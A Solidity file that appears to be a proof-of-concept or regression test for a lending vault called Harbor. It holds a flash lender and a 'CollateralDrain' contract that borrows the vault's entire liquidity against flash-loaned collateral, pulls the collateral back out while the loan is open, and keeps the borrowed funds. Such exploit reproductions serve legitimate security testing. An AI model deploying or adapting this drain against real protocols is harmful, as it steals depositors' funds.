// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {HarborToken} from "../../src/demo/HarborToken.sol";
import {IHarborRateAdapter} from "../../src/interfaces/IHarborRateAdapter.sol";
import {IHarborVault} from "../../src/interfaces/IHarborVault.sol";
import {IERC4626} from "@openzeppelin/contracts/interfaces/IERC4626.sol";

/// @dev Lends any amount of a token within one call and asks for it back.
contract FlashLender {
    HarborToken private immutable _token;

    error FlashLoanNotRepaid(uint256 actual, uint256 required);

    constructor(HarborToken token) {
        _token = token;
    }

    function flashLoan(uint256 amount) external {
        uint256 before = _token.balanceOf(address(this));
        _token.transfer(msg.sender, amount);
        CollateralDrain(msg.sender).onFlashLoan(amount);
        uint256 afterwards = _token.balanceOf(address(this));
        if (afterwards < before) revert FlashLoanNotRepaid(afterwards, before);
    }
}

/// @title The attack on the first release: one transaction, no capital.
/// @dev Borrow collateral in a flash loan, borrow the vault's whole liquidity against it, take the collateral
/// back while the loan is open, return the flash loan. What was borrowed is never repaid.
contract CollateralDrain {
    address private immutable _vault;
    HarborToken private immutable _asset;
    HarborToken private immutable _collateral;
    FlashLender private immutable _lender;

    constructor(address vault, FlashLender lender) {
        _vault = vault;
        _lender = lender;
        _asset = HarborToken(IERC4626(vault).asset());
        _collateral = HarborToken(IHarborVault(vault).collateral());
    }

    /// @dev A loan of 74 % of the collateral's value leaves room for roundings below the bound of 75 %.
    function attack() external {
        uint256 liquidity = _asset.balanceOf(_vault) + IHarborVault(_vault).strategyAssets();
        uint256 rate = IHarborRateAdapter(IHarborVault(_vault).rateAdapter()).rate();
        _lender.flashLoan(liquidity * 1e18 * 100 / (rate * 74) + 1);
        _asset.transfer(msg.sender, _asset.balanceOf(address(this)));
    }

    function onFlashLoan(uint256 amount) external {
        uint256 liquidity = _asset.balanceOf(_vault) + IHarborVault(_vault).strategyAssets();
        _collateral.approve(_vault, amount);
        IHarborVault(_vault).depositCollateral(amount, address(this));
        IHarborVault(_vault).borrow(liquidity, address(this));
        IHarborVault(_vault).withdrawCollateral(amount, address(this));
        _collateral.transfer(address(_lender), amount);
    }
}
